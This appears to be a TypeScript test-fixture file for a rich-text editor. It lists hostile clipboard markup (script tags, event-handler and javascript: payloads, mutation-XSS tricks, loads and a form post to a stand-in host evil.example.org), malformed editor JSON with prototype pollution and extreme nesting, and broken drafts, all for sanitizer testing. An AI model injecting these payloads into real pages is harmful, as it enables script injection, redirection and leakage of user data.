/** What somebody could carry into a page, after the public collections of cross-site scripting (OWASP, HTML5 Security, PortSwigger). */
const OUT = 'https://evil.example.org';

/** As the clipboard holds it (text/html): each tries to run something, to fetch something, or to change the page. */
export const HOSTILE_MARKUP: readonly string[] = [
  '<script>alert(1)</script>', `<script src="${OUT}/x.js"></script>`, '<scr<script>ipt>alert(1)</scr</script>ipt>', '<SCRIPT/XSS>alert(1)</SCRIPT>', '<script type="module">alert(1)</script>',
  '<img src=x onerror=alert(1)>', `<img src="${OUT}/pixel.png" srcset="${OUT}/2x.png 2x">`, '<img/src/onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>press</text></a></svg>',
  `<svg><use href="${OUT}/x.svg#x"></use></svg>`, '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math href="javascript:alert(1)">press</math>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>', `<iframe src="${OUT}"></iframe>`, `<object data="${OUT}/x.swf"></object>`, '<object data="data:text/html,<script>alert(1)</script>"></object>', `<embed src="${OUT}/x.swf">`,
  '<a href="javascript:alert(1)">press</a>', '<a href=" javascript:alert(1)">press</a>', '<a href="java&#x09;script:alert(1)">press</a>', '<a href="JaVaScRiPt:alert(1)">press</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>',
  '<a href="vbscript:msgbox(1)">press</a>', '<a href="https://example.org" onmouseover="alert(1)" style="position:fixed;inset:0" target="_top">wide</a>', `<a href="https://example.org" ping="${OUT}/ping">pinged</a>`, '<area href="javascript:alert(1)">',
  '<style>*{display:none}</style>', `<style>@import url("${OUT}/x.css");</style>`, `<link rel=stylesheet href="${OUT}/x.css">`, `<link rel=prefetch href="${OUT}/p">`, `<p style="background:url(${OUT}/bg.png);position:fixed;inset:0">over all</p>`, `<table background="${OUT}/t.png"><tr><td>cell</td></tr></table>`,
  `<base href="${OUT}/">`, `<meta http-equiv="refresh" content="0;url=${OUT}">`, '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  `<form action="${OUT}" id="beside"><input name="intent" value="annotation.add"><input name="body" autofocus onfocus=alert(1)><button>Send</button></form>`, '<input type="image" src=x onerror=alert(1)>', '<button formaction="javascript:alert(1)">press</button>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>', '<video><source onerror=alert(1)></video>', `<video poster="${OUT}/v.png" src="${OUT}/v.mp4" autoplay></video>`, '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<select autofocus onfocus=alert(1)></select>', '<body onload=alert(1)>', '<frameset onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '<textarea><img src=x onerror=alert(1)></textarea>', '<xmp><p title="</xmp><svg/onload=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p contenteditable=true onbeforeinput=alert(1)>x</p>', '<div data-pm-slice="0 0 []"><img src=x onerror=alert(1)></div>', '<p data-pm-slice="9 9 [&quot;script&quot;,{}]">x</p>', '<a id=beside name=beside href="https://example.org">clobbers</a>', '<img name=getElementById><img name=body>',
  `${'<blockquote>'.repeat(1_000)}at the bottom${'</blockquote>'.repeat(1_000)}`, `${'<ul><li>'.repeat(1_000)}at the end${'</li></ul>'.repeat(1_000)}`, `${'<b>'.repeat(1_000)}bold of bold${'</b>'.repeat(1_000)}`, `<table>${'<tr><td>x</td></tr>'.repeat(200)}</table>`,
];

const doc = (...content: unknown[]) => ({ type: 'doc', content });
const paragraph = (...content: unknown[]) => ({ type: 'paragraph', content });
const text = (words: unknown, ...marks: unknown[]) => ({ type: 'text', text: words, ...(marks.length > 0 ? { marks } : {}) });
const deep = (depth: number) => `${'{"type":"blockquote","content":['.repeat(depth)}{"type":"paragraph","content":[{"type":"text","text":"KEPT at the bottom"}]}${']}'.repeat(depth)}`;

/** What a field `body` of a draft could hold that no editor wrote. Whatever words there are say KEPT. */
export const HOSTILE_DOCUMENTS: Readonly<Record<string, string>> = {
  'markup as a text': '<img src=x onerror=alert(1)> KEPT',
  'a script node': JSON.stringify(doc({ type: 'script', content: [text('alert(1) KEPT')] })),
  'an image': JSON.stringify(doc({ type: 'image', attrs: { src: 'x', onerror: 'alert(1)' } }, paragraph(text('KEPT')))),
  'a link that runs': JSON.stringify(doc(paragraph(text('KEPT', { type: 'link', attrs: { href: 'javascript:alert(1)' } })))),
  'a link that is an object': JSON.stringify(doc(paragraph(text('KEPT', { type: 'link', attrs: { href: { toString: 'x' } } })))),
  'a mark of its own': JSON.stringify(doc(paragraph(text('KEPT', { type: 'textStyle', attrs: { style: 'position:fixed' } })))),
  'a mention with markup': JSON.stringify(doc(paragraph(text('KEPT '), { type: 'mention', attrs: { kind: 'person', id: '"><script>alert(1)</script>', label: '<img src=x onerror=alert(1)>' } }))),
  'a mention of nothing': JSON.stringify(doc(paragraph(text('KEPT '), { type: 'mention' }))),
  'a chart of nothing': JSON.stringify(doc(paragraph(text('KEPT')), { type: 'figure' }, { type: 'figure', attrs: { metric: 7, area: {}, edition: [] } })),
  'a paragraph in a paragraph': JSON.stringify(doc(paragraph(paragraph(text('KEPT'))))),
  'a text that is none': JSON.stringify(doc(paragraph(text(7), text(''), text({ KEPT: 1 }), text('KEPT')))),
  'a content that is none': JSON.stringify({ type: 'doc', content: 'KEPT' }),
  'a document in a document': JSON.stringify(doc(doc(paragraph(text('KEPT'))))),
  'a prototype': '{"type":"doc","__proto__":{"polluted":1},"content":[{"type":"paragraph","constructor":{"prototype":{"polluted":1}},"content":[{"type":"text","text":"KEPT"}]}]}',
  'quotes 40 deep': `{"type":"doc","content":[${deep(40)}]}`,
  'quotes 1,000 deep': `{"type":"doc","content":[${deep(1_000)}]}`,
  'quotes 20,000 deep': `{"type":"doc","content":[${deep(20_000)}]}`,
  'a broken document': '{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"KEPT',
  'a million letters': JSON.stringify(doc(paragraph(text(`KEPT ${'x '.repeat(500_000)}`)))),
};

/** A draft as storage could hold it that is none. */
export const BROKEN_DRAFTS: readonly string[] = [
  '', '{', 'null', '7', '"x"', '[]', '{}', '<script>alert(1)</script>', '{"values":null,"key":"","at":0}', '{"values":[],"key":"k","at":1e999}', '{"values":{"body":7},"key":"k","at":1}', '{"values":"x","key":"k","at":"now"}',
  `${'['.repeat(50_000)}${']'.repeat(50_000)}`, '\u0000\uFFFF\uD800',
];
